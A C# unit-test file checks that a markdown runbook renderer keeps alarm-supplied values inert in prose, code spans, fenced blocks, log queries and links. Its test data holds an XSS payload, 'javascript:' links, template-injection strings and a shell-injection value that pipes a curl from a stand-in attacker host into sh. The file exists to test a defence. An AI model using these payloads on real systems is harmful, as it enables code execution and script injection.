using AngleSharp.Dom;
using Incidents.Application.Markdown;

namespace Incidents.Application.Tests.Markdown;

/// <summary>A value from an alarm stays a value wherever a runbook puts it.</summary>
public class MarkdownVariablesTests
{
    [Theory]
    [InlineData("# heading")]
    [InlineData("[click](https://evil.example)")]
    [InlineData("https://evil.example")]
    [InlineData("<https://evil.example>")]
    [InlineData("<img src=x onerror=alert(1)>")]
    [InlineData("*bold* `code` | cell")]
    [InlineData("`")]
    [InlineData("```")]
    [InlineData("{{ other }}")]
    [InlineData("{{7*7}} ${x}")]
    [InlineData("&lt;!channel&gt;")]
    public void InProse_AnyValue_IsText(string value)
    {
        var body = Rendered.Body("{{ v }} and {{ v }}", Having(value)).AssertHarmless();

        Assert.Equal($"{value} and {value}", body.TextContent);
        Assert.Equal("P", Assert.Single(body.QuerySelectorAll("*")).NodeName);
    }

    [Theory]
    [InlineData("a\n# b", "a # b")]
    [InlineData("a\r\n\r\n```\nb", "a ``` b")]
    [InlineData("a\u202eb", "a[U+202E]b")]
    [InlineData("a\u200bb", "a[U+200B]b")]
    [InlineData("a\0b", "a[U+0000]b")]
    public void InProse_WhatDoesNotShow_Shows(string value, string shown) =>
        Assert.Equal(shown, Rendered.Body("{{ v }}", Having(value)).AssertHarmless().TextContent);

    [Fact]
    public void InProse_HalfASurrogatePair_Shows() =>
        Assert.Equal("a[U+D800]b", Rendered.Body("{{ v }}", Having("a\ud800b")).AssertHarmless().TextContent);

    [Theory]
    [InlineData("Unknown {{ nobody }} stays.")]
    [InlineData("`{{nobody}}` stays.")]
    [InlineData("{{ }} and {{a|b}} and {{ v")]
    public void Unknown_StaysAsWritten(string markdown) =>
        Assert.Equal(markdown.Replace("`", "", StringComparison.Ordinal), Rendered.Body(markdown, Having("x")).TextContent);

    [Fact]
    public void InHeading_Value_DoesNotChooseTheId() =>
        Assert.Equal("<h2 id=\"md-test-about-v\">About __proto__</h2>", Rendered.Body("## About {{ v }}", Having("__proto__")).InnerHtml);

    [Theory]
    [InlineData("`{{ v }}`", "checkout 5xx; `rm`", "checkout 5xx; `rm`")]
    [InlineData("`aws logs tail {{ v }}`", "checkout 5xx", "aws logs tail 'checkout 5xx'")]
    [InlineData("`aws logs tail {{ v }}`", "--debug", "aws logs tail {{ v }}")]
    public void InCodeSpan_AloneItIsShown_InACommandItIsQuoted(string markdown, string value, string code) =>
        Assert.Equal(code, Rendered.Body(markdown, Having(value)).AssertHarmless().QuerySelector("code")!.TextContent);

    [Theory]
    [InlineData("app/checkout/50dc", "fields @message | filter lb = \"app/checkout/50dc\"")]
    [InlineData("\" | delete", "fields @message | filter lb = \"{{ v }}\"")]
    [InlineData("a\nb", "fields @message | filter lb = \"{{ v }}\"")]
    public void InAQuery_OnlyAQuietValueIsFilled(string value, string query) =>
        Assert.Equal(query, Rendered.Body("```logs\nfields @message | filter lb = \"{{ v }}\"\n```", Having(value)).AssertHarmless().QuerySelector("code")!.TextContent);

    [Theory]
    [InlineData("```\nx\n```\n\n# y")]
    [InlineData("'; curl evil.example | sh; '")]
    public void InFence_Value_CannotEndIt(string value)
    {
        var body = Rendered.Body("```bash\necho {{ v }}\n```\n\nafter", Having(value)).AssertHarmless();

        Assert.Equal(["PRE", "P"], body.Children.Select(c => c.NodeName));
    }

    [Theory]
    [InlineData("[x](https://{{region}}.console.aws.amazon.com/a?b={{v}})", "a/b c&d=é", "https://eu-west-1.console.aws.amazon.com/a?b=a%2Fb%20c%26d%3D%C3%A9")]
    [InlineData("[x](</incidents/{{ v }}>)", "a/b?c", "/incidents/a%2Fb%3Fc")]
    [InlineData("[x](</incidents/{{ v }}>)", "../..//evil", null)]
    public void InLink_Value_IsOnePieceOfTheAddress(string markdown, string value, string? href) =>
        Assert.Equal(href, Rendered.Body(markdown, Having(value)).AssertHarmless().QuerySelector("a")?.GetAttribute("href"));

    [Theory]
    [InlineData("[x](https://{{v}}/a)", "evil.example")]
    [InlineData("[x](https://{{v}}.console.aws.amazon.com/a)", "evil.example/")]
    [InlineData("[x](https://example.com{{v}})", "@evil.example")]
    [InlineData("[x]({{v}})", "javascript:alert(1)")]
    [InlineData("[x]({{v}}:alert(1))", "javascript")]
    [InlineData("[x]({{v}})", "//evil.example")]
    public void InLink_Value_NeverChoosesWhereItLeads(string markdown, string value)
    {
        var href = Rendered.Body(markdown, Having(value)).AssertHarmless().QuerySelector("a")?.GetAttribute("href");

        Assert.DoesNotContain("evil.example", href ?? "", StringComparison.Ordinal);
        Assert.DoesNotContain("javascript:", href ?? "", StringComparison.Ordinal);
    }

    private static Func<string, string?> Having(string value) => name => name switch { "v" => value, "region" => "eu-west-1", _ => null };
}
